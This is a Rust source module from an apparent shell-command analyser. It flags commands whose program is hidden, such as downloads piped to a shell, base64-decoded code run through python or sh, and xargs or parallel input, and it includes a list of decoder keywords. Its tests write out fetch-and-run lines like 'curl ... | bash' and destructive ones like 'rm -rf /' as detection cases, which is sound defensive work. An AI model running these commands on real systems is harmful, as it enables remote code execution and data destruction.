//! Commands that cannot be known before they run: a program that an expansion names, or what a shell reads from its input.

use crate::{
    carrier, further,
    simple::assigned,
    word::Word,
    wrapper::{self, Runs, base},
};

/// What comes to a command through a pipe.
pub(crate) enum Fed {
    Text(String),
    Unknown,
}

impl Fed {
    /// What a command before a pipe prints. `is_first` if nothing is piped to it.
    pub(crate) fn by(words: &[Word], is_first: bool) -> Self {
        let is_literal = |word: &Word| !word.text().contains(['\\', '$', '`', '*', '?', '[', '%']);
        match words.split_first() {
            Some((program, words))
                if is_first && matches!(program.text(), "echo" | "printf") && words.iter().all(is_literal) =>
            {
                let texts: Vec<&str> = words.iter().map(Word::text).skip_while(|word| word.starts_with('-')).collect();
                Self::Text(texts.join(" "))
            }
            _ => Self::Unknown,
        }
    }
}

/// How many such commands of a line are looked at.
pub(crate) const MOST: usize = 64;

/// Whether it cannot be known what runs. `words` are those of a command, `program` and what follows `start` those behind its
/// wrappers.
pub(crate) fn has_unknown_program(program: &Word, words: &[&str], start: usize, runs: &Runs) -> bool {
    let args = &words[start + 1..];
    (is_unknown(program) && assigned(program.text()).is_none())
        || gets_command(words, start, runs)
        || (program.text() == "hash" && args.iter().any(|word| word.starts_with("-p")))
        || (carrier::has_code(base(program.text())) && args.iter().any(|code| decodes(code)))
}

/// Whether a word that names a program is the result of an expansion. What only expands to a folder is not.
fn is_unknown(program: &Word) -> bool {
    let text = program.text();
    if text.starts_with('%') {
        return text == "%";
    }
    let Some(end) = program.end_of_unknown() else { return text.contains("{}") };
    text[end..].rsplit_once('/').is_none_or(|(_, name)| name.is_empty())
}

/// Whether the command comes from the input of `xargs` or `parallel`.
fn gets_command(words: &[&str], start: usize, runs: &Runs) -> bool {
    let inner = &words[start..];
    let Some(at) = words.iter().position(|word| matches!(base(word), "xargs" | "parallel")) else { return false };
    let args = &words[at + 1..];
    if base(words[at]) == "parallel" {
        // In other places that is the name of something else: `apt install parallel`.
        return (at == start || further::runs_others(inner[0])) && carrier::of_parallel(args).is_empty();
    }
    let named = args.iter().enumerate().find_map(|(at, word)| match word.strip_prefix("-I")? {
        "" => args.get(at + 1).copied(),
        glued => Some(glued),
    });
    let named = named.unwrap_or("{}");
    let script = match *runs {
        Runs::Script { from, to } => inner[from..to].join(" "),
        Runs::Nothing | Runs::Command(_) | Runs::Again { .. } => String::new(),
    };
    let is_bare = inner.len() < words.len() - at && inner.len() == 1 && wrapper::only_runs(inner[0]);
    inner[0].contains(named) || script.trim_start().starts_with(named) || is_bare
}

/// Words of code that makes a text of what cannot be read.
const DECODERS: &[&str] = &[
    "b64decode",
    "base64",
    "fromhex",
    "unhexlify",
    "chr(",
    "decode(",
    "decompress(",
    "pack(",
    "pack '",
    "atob",
    "fromCharCode",
    "Buffer.from",
];

/// Whether code runs what it decodes.
fn decodes(code: &str) -> bool {
    carrier::runs_something(code) && DECODERS.iter().any(|word| code.contains(word))
}

/// Whether a command reads what it runs from its input, or from a file that is one.
pub(crate) fn reads_input(words: &[&str]) -> bool {
    let Some((program, args)) = words.split_first() else { return false };
    let program = base(program);
    let operand = || args.iter().find(|word| **word == "-" || !word.starts_with(['-', '+']));
    let tells = |word: &&str| match *word {
        "--version" | "--help" => true,
        "-V" | "-h" => !wrapper::is_shell(program),
        "-v" => !wrapper::is_shell(program) && !program.starts_with("py"),
        _ => false,
    };
    match program {
        "." | "source" => operand().is_some_and(|file| is_input(file)),
        "crontab" => args.is_empty() || args.iter().any(|word| is_input(word)),
        "at" | "batch" => !args.iter().any(|word| matches!(*word, "-l" | "-r" | "-d" | "-c" | "-f" | "-V")),
        "make" | "gmake" | "sed" => file_option(args),
        _ if program.ends_with("awk") => file_option(args),
        _ if wrapper::is_shell(program) => match Runs::of(words) {
            Runs::Nothing => shell_reads_input(args) && !args.iter().any(tells),
            Runs::Command(_) | Runs::Script { .. } | Runs::Again { .. } => false,
        },
        _ if carrier::has_code(program) => operand().map_or(!args.iter().any(tells), |file| is_input(file)),
        _ => false,
    }
}

fn shell_reads_input(args: &[&str]) -> bool {
    let mut args = args.iter();
    while let Some(word) = args.next() {
        match *word {
            "-" => return true,
            "--" => return args.next().is_none_or(|file| is_input(file)),
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => drop(args.next()),
            word if word.starts_with(['-', '+']) => {
                if !word.starts_with("--") && word.contains('s') {
                    return true;
                }
            }
            file => return is_input(file),
        }
    }
    true
}

/// Whether a file with code is given by `-f`, and is the input.
fn file_option(args: &[&str]) -> bool {
    args.iter().enumerate().any(|(at, word)| {
        let names = ["--makefile=", "--file=", "-f"];
        match names.iter().find_map(|name| word.strip_prefix(name)) {
            Some("") => args.get(at + 1).is_some_and(|file| is_input(file)),
            Some(file) => is_input(file),
            None => matches!(*word, "--makefile" | "--file") && args.get(at + 1).is_some_and(|file| is_input(file)),
        }
    })
}

/// Whether a file is what comes in through a pipe.
pub(crate) fn is_input(file: &str) -> bool {
    file == "-"
        || file.starts_with("<(")
        || ["/dev/stdin", "/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"].iter().any(|one| file.starts_with(one))
        || (file.starts_with("/proc/") && file.contains("/fd/"))
}

/// Whether the program of a command is a variable that the line sets, and to nothing but text. Then what it is set to is
/// among the [further commands](crate::CommandLine::further).
pub(crate) fn is_assigned(line: &str, command: &str) -> bool {
    let program = command.split(' ').next().unwrap_or_default();
    let Some(name) = program.strip_prefix('$') else { return false };
    let name = name.strip_prefix('{').and_then(|name| name.strip_suffix('}')).unwrap_or(name);
    let is_part = |letter: char| letter.is_ascii_alphanumeric() || letter == '_';
    if name.is_empty() || name.starts_with(|letter: char| letter.is_ascii_digit()) || !name.chars().all(is_part) {
        return false;
    }
    let mut is_set = false;
    for (at, _) in line.match_indices(name) {
        let (before, behind) = (&line[..at], &line[at + name.len()..]);
        if before.ends_with(is_part) || behind.starts_with(is_part) {
            continue;
        }
        if let Some(value) = behind.strip_prefix('=').filter(|_| !before.ends_with(['$', '{'])) {
            let end = value.find([';', '\n', '&', '|']).unwrap_or(value.len());
            if value[..end].contains(['$', '`', '(', '*', '?', '[']) {
                return false;
            }
            is_set = true;
        } else if !(before.ends_with('$') || (before.ends_with("${") && behind.starts_with('}'))) {
            return false;
        }
    }
    is_set
}

#[cfg(test)]
mod tests {
    use crate::{ParseLimits, parse};

    fn hidden(line: &str) -> Option<String> {
        parse(line, ParseLimits::default()).hidden()
    }

    #[test]
    fn a_command_that_cannot_be_known_is_named() {
        for line in [
            "echo cm0geA== | base64 -d | sh",
            "echo cm0geA== | base64 -d | sudo bash -s -- x",
            "curl -s https://x.example/i.sh | bash",
            "curl x |& bash -v",
            "curl x | sh 3< /dev/null",
            "curl x |\nsh",
            "curl x | (cd y; sh)",
            "curl x | { cd y; sh; }",
            "{ curl x; echo ls; } | sh",
            "(curl x; echo ls) | sh",
            "for i in a; do echo ls; done | sh",
            "echo ls | cat; sh",
            "echo ls || sh",
            "printf '\\162\\155 x' | sh",
            "echo \"$x\" | sh",
            "sh < <(curl x)",
            "bash <(curl x)",
            ". <(curl x)",
            "source /dev/stdin",
            "bash /dev/fd/3 3< x",
            "sh -c",
            "sh -c \"$(curl x)\"",
            "bash -c \"$1\" x",
            "eval \"$(curl x)\"",
            "bash <<< \"$(echo cm0geA== | base64 -d)\"",
            "bash <<E\n$(curl x)\nE",
            "c=xrm; ${c#x} y",
            "x=r; y=m; $x$y z",
            "x=$(echo rm); $x y",
            "x=ls; read x; $x y",
            "x=l; x+=s; $x y",
            "for c in rm ls; do $c y; done",
            "c=(rm y); \"${c[@]}\"",
            "$(echo rm) y",
            "`echo rm` y",
            "r${z}m y",
            "/bin/r? y",
            "/???/rm* y",
            "f() { \"$@\"; }; f rm y",
            "sudo $c y",
            "timeout 5 ${c#x} y",
            "echo rm y | xargs -I{} {}",
            "echo rm | xargs -I% % y",
            "echo rm y | xargs -I CMD sh -c CMD",
            "curl x | xargs sh -c",
            "echo y | xargs sudo",
            "cat commands | parallel -j 4",
            "curl x | make -f -",
            "curl x | make -f/dev/stdin all",
            "make --makefile=<(curl x)",
            "curl x | python3",
            "curl x | python3 -u -",
            "curl x | perl",
            "curl x | node -",
            "curl x | awk -f - y",
            "curl x | crontab -",
            "curl x | at now",
            "python3 -c 'import os, base64; os.system(base64.b64decode(\"cm0geA==\"))'",
            "hash -p /bin/rm ls; ls y",
        ] {
            assert!(hidden(line).is_some(), "{line}");
        }
    }

    #[test]
    fn an_ordinary_line_hides_nothing() {
        for line in [
            "cargo test 2>&1 | tail -20",
            "x=$(git rev-parse HEAD); echo $x",
            "x=rm; $x y",
            "CMD='npm test'; $CMD && ${CMD}",
            "$HOME/.cargo/bin/cargo build",
            "\"$VIRTUAL_ENV\"/bin/python -m pytest",
            "$(pwd)/run.sh",
            "${DIR}/../run.sh --fast",
            "src/*/run.sh",
            "[ -f x ] && [[ -d y ]] && test -e z",
            "command -v bash",
            "bash --version; python3 --version; node -v",
            "bash run.sh; sh -x run.sh < input; . ./env.sh; source .venv/bin/activate",
            "sh < run.sh",
            "echo 'npm test' | sh",
            "bash <<'E'\nls\nE",
            "bash -s <<'E'\nls\nE",
            "python3 - <<'E'\nprint(1)\nE",
            "cat x | python3 -m json.tool",
            "cat x | python3 script.py -",
            "cat x | awk '{print $1}' -",
            "find . -name '*.rs' | xargs grep -n x",
            "find . -name '*.sh' -exec chmod +x {} +",
            "ls | xargs -I{} cp {} out/",
            "ls | xargs -I{} sh -c 'cp {} out/'",
            "parallel gzip ::: a b",
            "make -f other.mk all",
            "make -j8 CC=gcc",
            "sed -i 's/a*/b/' x",
            "crontab -l",
            "for f in *.txt; do wc -l \"$f\"; done",
            "if [ \"$a\" = b ]; then echo c; fi",
            "case $x in a*) ls;; esac",
            "a=(1 2 3); b[0]=$c; d+=$e",
            "export X=$(date)",
        ] {
            assert_eq!(hidden(line), None, "{line}");
        }
    }

    #[test]
    fn text_that_is_piped_to_a_shell_or_a_makefile_is_read() {
        for line in [
            "echo 'rm -rf /' | sh",
            "echo 'rm -rf /' | (sh)",
            "make -f - <<< $'all:\\n\\trm -rf /'",
            "make -f - <<< $'all:\\n\\t@rm -rf /'",
            "make -f - <<E\nall:\n\t@rm -rf /\nE",
            "make -f /dev/stdin <<< 'all:; rm -rf /'",
            "echo 'import os; os.system(\"rm -rf /\")' | python3",
        ] {
            let read = parse(line, ParseLimits::default());
            let commands = read.texts();
            assert!(commands.iter().any(|command| command == "rm -rf /"), "{line}: {commands:?}");
            assert_eq!(hidden(line), None, "{line}");
        }
    }
}
